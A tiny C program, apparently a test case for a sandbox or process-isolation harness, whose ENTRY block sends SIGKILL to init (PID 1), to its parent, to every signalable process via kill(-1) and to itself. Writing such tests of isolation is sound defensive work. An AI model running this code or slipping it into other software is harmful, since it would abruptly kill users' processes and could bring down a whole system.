#include "scale.h"

ENTRY {
  kill(1, SIGKILL);
  kill(getppid(), SIGKILL);
  kill(-1, SIGKILL);
  kill(getpid(), SIGKILL);
}
